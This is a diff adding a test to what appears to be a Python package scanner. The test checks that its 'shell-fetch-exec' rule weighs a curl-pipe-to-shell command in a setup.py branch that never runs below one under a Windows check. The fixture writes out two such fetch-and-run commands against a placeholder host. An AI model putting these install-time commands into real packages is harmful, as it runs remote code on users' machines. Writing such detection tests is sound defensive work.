@@ -246,3 +246,21 @@ def test_a_folder_inside_a_wheel_package_is_a_namespace_package() -> None:
     roles = {m.path: ctx.role_of(m) for m in ctx.artifact.members}
     assert roles["pkg/sub/mod.py"] == Role.MODULE
     assert roles["pkg-1.0.data/scripts/tool.py"] == Role.SCRIPT
+
+
+def test_evidence_in_a_block_that_never_runs_weighs_like_commentary() -> None:
+    """A command under a test of Python 2 or of an exotic platform never runs for pip on
+    today's machines; the same command under a test of Windows does."""
+    setup = (
+        "import os, sys\nfrom setuptools import setup\n"
+        "if sys.version_info[0] == 2:\n"
+        "    os.system('curl -sSf https://x.example.invalid/a.sh | sh')\n"
+        "if sys.platform == 'win32':\n"
+        "    os.system('curl -sSf https://x.example.invalid/b.sh | sh')\n"
+        "setup(name='demo')\n"
+    )
+    ctx = context({"setup.py": setup, "demo/__init__.py": ""})
+    findings = {f.line: f for f in RULES["shell-fetch-exec"].check(ctx)}
+    assert "never runs" in findings[4].message
+    assert "never runs" not in findings[6].message
+    assert findings[4].weight < findings[6].weight
